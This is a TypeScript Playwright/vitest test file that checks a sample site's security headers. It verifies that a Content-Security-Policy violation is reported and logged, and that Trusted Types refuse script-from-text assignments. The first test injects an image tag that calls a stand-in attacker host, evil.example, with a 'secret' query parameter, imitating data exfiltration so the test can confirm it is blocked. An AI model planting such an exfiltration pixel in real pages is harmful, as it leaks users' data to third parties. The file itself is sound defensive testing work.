import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { launchBrowser, openPage } from '../support/browser.ts';
import { type SampleSite, startSampleSite } from '../support/sample-site.ts';

let site: SampleSite;
let browser: Browser;
beforeAll(async () => {
  [site, browser] = await Promise.all([startSampleSite(), launchBrowser()]);
});
afterAll(async () => {
  await browser.close();
  await site.close();
});

it('a violation of the Content-Security-Policy is reported to the site and logged', async () => {
  const watched = await openPage(browser);
  await watched.page.route(`${site.url}/about`, async route => {
    const response = await route.fetch();
    const body = (await response.text()).replace(
      '<main',
      '<img src="https://evil.example/pixel.gif?secret=1"><main',
    );
    await route.fulfill({ response, body });
  });
  await watched.page.goto(`${site.url}/about`);
  await expect
    .poll(() => site.log.filter(line => line.code === 'browser-csp-report').map(line => line.report))
    .toContainEqual({
      page: `${site.url}/about`,
      directive: 'img-src',
      blocked: expect.stringMatching(/^https:\/\/evil\.example(?:\/pixel\.gif)?$/),
      source: expect.any(String),
    });
  await watched.close();
});

it('Trusted Types refuse text as script, and no policy can be created', async () => {
  const watched = await openPage(browser);
  await watched.page.goto(`${site.url}/about`);
  const refused = await watched.page.evaluate(() => {
    const names = (work: () => unknown) => {
      try {
        work();
        return 'nothing';
      } catch (error) {
        return (error as Error).name;
      }
    };
    return [
      names(() => {
        document.createElement('div').innerHTML = '<b>x</b>';
      }),
      names(() => {
        document.createElement('script').src = '/x.js';
      }),
      names(() =>
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
        ).trustedTypes.createPolicy('x', {}),
      ),
    ];
  });
  expect(refused).toEqual(['TypeError', 'TypeError', 'TypeError']);
  await watched.close();
});
